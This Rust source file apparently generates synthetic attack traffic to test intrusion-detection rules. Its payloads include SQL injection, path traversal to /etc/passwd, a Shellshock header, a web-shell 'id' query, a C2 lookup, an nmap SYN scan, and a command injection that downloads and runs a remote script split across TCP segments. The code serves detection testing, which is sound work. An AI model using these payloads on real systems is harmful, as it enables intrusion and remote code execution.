//! Scripts of the seven attacks; each must match exactly one rule of `configs/demo.rules` (the
//! table is in the module doc of [`super`]). The web attacks reuse the benign web connection
//! model, so only their content differs from normal traffic.

use super::benign::{dns_lookup, web_connection, Exchange};
use super::dns::{Rdata, TYPE_A};
use super::http;
use super::wire::{flags, tcp_frame, Endpoint, TcpFields};
use super::world::{workstation, World, C2_IP, RESOLVER, SITES};
use etherparse::TcpOptionElement;

/// The command that attack (f) splits across two TCP segments.
pub(crate) const SPLIT_PATTERN: &[u8] = b"/bin/sh -c wget";
/// How many bytes of [`SPLIT_PATTERN`] travel in the first segment ("/bin/sh -c wg").
pub(crate) const SPLIT_AFTER: usize = 13;
/// The known-bad domain attack (e) looks up.
pub(crate) const C2_DOMAIN: &str = "malware-c2.example";
/// The ports attack (g) probes, in nmap's randomised order.
pub(crate) const SCANNED_PORTS: [u16; 30] = [
    443, 3389, 21, 8080, 110, 5900, 139, 993, 22, 1723, 111, 995, 53, 3306, 445, 25, 143, 80, 135,
    587, 23, 8443, 199, 1025, 554, 113, 256, 1720, 5060, 6000,
];
/// The ports of the scanned host that are open (answered SYN/ACK, reset by the scanner).
pub(crate) const OPEN_PORTS: [u16; 2] = [22, 80];

/// A response-closing exchange with a plain body.
fn exchange(
    request: Vec<u8>,
    status: (u16, &'static str),
    ctype: &str,
    body: &[u8],
    split_at: Option<usize>,
) -> Exchange {
    Exchange {
        request,
        status,
        headers: vec![
            ("Content-Type", ctype.to_string()),
            ("Connection", "close".to_string()),
        ],
        body: body.to_vec(),
        split_at,
    }
}

/// Request headers of a command-line tool.
fn tool_headers(agent: &'static str) -> Vec<(&'static str, &'static str)> {
    vec![
        ("User-Agent", agent),
        ("Accept", "*/*"),
        ("Connection", "close"),
    ]
}

/// (a) SQL injection in the URI of a GET, sqlmap style.
pub(crate) fn sql_injection(world: &mut World, at: u64) {
    let site = &SITES[1];
    let target =
        "/products.php?cat=3&id=1%20UNION%20SELECT%20username,password,3%20FROM%20users--%20-";
    let request = http::request(
        "GET",
        site.name,
        target,
        &tool_headers("sqlmap/1.8.2#stable (https://sqlmap.org)"),
        b"",
    );
    let body =
        b"<html><body><h1>500 Internal Server Error</h1><p>database error</p></body></html>\n";
    let ex = exchange(
        request,
        (500, "Internal Server Error"),
        "text/html",
        body,
        None,
    );
    web_connection(world, at, workstation(13), site, &[ex]);
}

/// (b) Path traversal to /etc/passwd (curl --path-as-is); nginx refuses it with 400.
pub(crate) fn path_traversal(world: &mut World, at: u64) {
    let site = &SITES[5];
    let request = http::request(
        "GET",
        site.name,
        "/../../../etc/passwd",
        &tool_headers("curl/8.5.0"),
        b"",
    );
    let body = b"<html>\r\n<head><title>400 Bad Request</title></head>\r\n<body>\r\n<center><h1>400 Bad Request</h1></center>\r\n</body>\r\n</html>\r\n";
    let ex = exchange(request, (400, "Bad Request"), "text/html", body, None);
    web_connection(world, at, workstation(13), site, &[ex]);
}

/// (c) A web shell on a compromised server answers `id` with root's identity.
pub(crate) fn root_id_response(world: &mut World, at: u64) {
    let site = &SITES[9];
    let request = http::request(
        "GET",
        site.name,
        "/cgi-bin/status.cgi?cmd=id",
        &tool_headers("curl/8.5.0"),
        b"",
    );
    let body = b"uid=0(root) gid=0(root) groups=0(root)\n";
    let ex = exchange(request, (200, "OK"), "text/plain", body, None);
    web_connection(world, at, workstation(7), site, &[ex]);
}

/// (d) Shellshock (CVE-2014-6271): a function definition in the User-Agent of a CGI request.
pub(crate) fn shellshock(world: &mut World, at: u64) {
    let site = &SITES[9];
    let agent = "() { :; }; echo; echo; /usr/bin/id";
    let request = http::request(
        "GET",
        site.name,
        "/cgi-bin/test.cgi",
        &tool_headers(agent),
        b"",
    );
    let body = b"<html><body><p>test page</p></body></html>\n";
    let ex = exchange(request, (200, "OK"), "text/html", body, None);
    web_connection(world, at, workstation(13), site, &[ex]);
}

/// (e) An infected workstation resolves its command-and-control domain.
pub(crate) fn c2_lookup(world: &mut World, at: u64) {
    dns_lookup(
        world,
        at,
        workstation(4),
        &RESOLVER,
        (C2_DOMAIN, TYPE_A),
        &[Rdata::A(C2_IP)],
    );
}

/// (f) Command injection into a diagnostics API, the payload split mid-word across two
/// segments so that no single packet holds [`SPLIT_PATTERN`].
pub(crate) fn split_command_injection(world: &mut World, at: u64) {
    let site = &SITES[2];
    let body = br#"{"target":"127.0.0.1; /bin/sh -c wget http://203.0.113.66/x.sh -O /tmp/x.sh; sh /tmp/x.sh"}"#;
    let mut headers = tool_headers("python-requests/2.31.0");
    headers.push(("Content-Type", "application/json"));
    let request = http::request(
        "POST",
        site.name,
        "/api/v1/diagnostics/ping",
        &headers,
        body,
    );
    let split = request
        .windows(SPLIT_PATTERN.len())
        .position(|w| w == SPLIT_PATTERN)
        .map(|p| p + SPLIT_AFTER);
    let reply = br#"{"status":"ok","output":""}"#;
    let ex = exchange(request, (200, "OK"), "application/json", reply, split);
    web_connection(world, at, workstation(4), site, &[ex]);
}

/// (g) An nmap SYN scan from the internet of 30 ports of a HOME_NET server: window 1024, only
/// an MSS option, random TTL and IP id per probe, one source port; closed ports answer RST/ACK,
/// open ones SYN/ACK, which the scanner resets. Every probe is its own flow.
pub(crate) fn syn_scan(world: &mut World, at: u64) {
    let target = Endpoint::local([10, 0, 2, 15]);
    let scanner = Endpoint::remote([203, 0, 113, 77], 64, 0);
    let src_port = world.rng.range(32_768, 60_999) as u16;
    let rtt = 35_600;
    let mut t = at;
    let mut target_ip_id = world.rng.next_u16();
    let probe_seq = world.rng.next_u32();
    let mss = [TcpOptionElement::MaximumSegmentSize(1460)];
    for port in SCANNED_PORTS {
        world.trace.new_flow();
        let probe_from = Endpoint {
            ttl: world.rng.range(37, 59) as u8,
            ..scanner
        };
        let syn = TcpFields {
            src_port,
            dst_port: port,
            seq: probe_seq,
            ack: 0,
            flags: flags::SYN,
            window: 1024,
            options: &mss,
        };
        let probe_id = world.rng.next_u16();
        world
            .trace
            .push(t, tcp_frame(&probe_from, &target, probe_id, &syn, &[]));
        let answered = t + world.rng.range(60, 180);
        let open = OPEN_PORTS.contains(&port);
        let answer = TcpFields {
            src_port: port,
            dst_port: src_port,
            seq: if open { world.rng.next_u32() } else { 0 },
            ack: probe_seq.wrapping_add(1),
            flags: if open {
                flags::SYN | flags::ACK
            } else {
                flags::RST | flags::ACK
            },
            window: if open { 64240 } else { 0 },
            options: if open { &mss } else { &[] },
        };
        world.trace.push(
            answered,
            tcp_frame(&target, &scanner, target_ip_id, &answer, &[]),
        );
        target_ip_id = target_ip_id.wrapping_add(1);
        if open {
            let reset = TcpFields {
                src_port,
                dst_port: port,
                seq: probe_seq.wrapping_add(1),
                ack: 0,
                flags: flags::RST,
                window: 0,
                options: &[],
            };
            let reset_id = world.rng.next_u16();
            world.trace.push(
                answered + rtt,
                tcp_frame(&probe_from, &target, reset_id, &reset, &[]),
            );
        }
        t += world.rng.range(40, 400);
    }
}
